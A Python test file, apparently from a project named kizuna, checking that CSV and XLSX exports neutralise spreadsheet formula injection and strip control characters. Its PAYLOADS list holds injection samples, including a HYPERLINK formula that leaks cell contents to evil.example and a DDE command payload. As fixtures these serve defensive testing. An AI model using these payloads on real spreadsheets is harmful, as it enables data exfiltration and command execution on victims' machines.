"""The guarded export: formula-like text stays text, control characters go, in CSV and
XLSX, and the shared reader reads the values back unchanged."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from kizuna.common.exports import cell_guard, table_export
from kizuna.common.tables import read_table

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_quotes_every_formula_start(payload):
    data = table_export(["name"], [[payload]], fmt="csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["name"], ["'" + payload]]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_writes_formula_like_text_as_text(payload):
    data = table_export(["name"], [[payload]], fmt="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    # XML reads a carriage return back as a line feed
    assert (sheet["A2"].value, sheet["A2"].data_type) == (payload.replace("\r", "\n"), "s")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_reader_gets_formula_like_text_back_unchanged(fmt):
    data = table_export(["name"], [[p] for p in PAYLOADS], fmt=fmt)
    assert [cells for _, cells in read_table(f"x.{fmt}", data).rows] == [
        ['=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
        ["+cmd|' /C calc'!A0"],
        ["-1+1"],
        ["@SUM(1)"],
        ["=1+1"],  # the reader strips the leading tab or carriage return with the other spaces
        ["=1+1"],
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_control_characters_are_removed_and_the_file_is_written(fmt):
    data = table_export(["name\x07"], [["Siam\x00 Parts\x1b Ltd", "ok\x7f", 42]], fmt=fmt)
    table = read_table(f"x.{fmt}", data)
    assert table.headers == ["name"]
    assert table.rows == [(2, ["Siam Parts Ltd", "ok", 42 if fmt == "xlsx" else "42"])]


def test_numbers_and_negative_numbers_are_not_quoted():
    assert cell_guard(-5) == -5
    assert cell_guard(3.5) == 3.5
    assert cell_guard("-5") == "'-5"


def test_an_unknown_format_is_refused():
    with pytest.raises(ValueError, match="unknown export format 'pdf'"):
        table_export(["a"], [], fmt="pdf")
